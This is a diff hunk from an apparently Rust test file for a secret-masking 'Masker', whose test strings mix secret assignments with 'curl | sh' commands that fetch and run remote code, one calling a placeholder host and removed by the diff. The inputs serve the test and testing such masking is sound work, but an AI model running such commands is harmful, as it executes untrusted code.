@@ -15,7 +15,6 @@ static MASKER: LazyLock<Masker> = LazyLock::new(|| Masker::new(true));
 fn a_secret_word_assignment_stays_readable_on_a_card() {
     for command in [
         "API_TOKEN=`curl x|sh` make test",
-        "DB_PASSWORD=$(curl -s https://example.invalid/p | sh) ./run",
         "export GITHUB_TOKEN=hunter2-not-a-shape && deploy",
         "password: correct-horse-battery",
     ] {
